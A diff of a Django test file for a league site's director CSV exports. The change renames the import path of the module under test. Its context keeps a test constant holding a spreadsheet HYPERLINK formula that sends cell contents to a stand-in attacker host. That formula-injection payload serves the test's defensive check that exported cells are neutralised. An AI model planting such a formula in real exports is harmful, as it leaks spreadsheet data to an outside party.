@@ -1,4 +1,4 @@
-"""The director's CSV exports (league/views/director.py): every text cell is safe to open in a
+"""The director's CSV exports (league/views/director_exports.py): every text cell is safe to open in a
 spreadsheet, and the roster lists only students whose e-mail address is verified."""
 
 import csv
@@ -8,7 +8,7 @@ import pytest
 from django.urls import reverse
 
 from league.standings import rebuild_standings
-from league.views.director import spreadsheet_safe
+from league.views.director_exports import spreadsheet_safe
 from tests.support import ProfileFactory, confirmed_game
 
 FORMULA = '=HYPERLINK("http://attacker.example.org/?"&A1,"Click")'
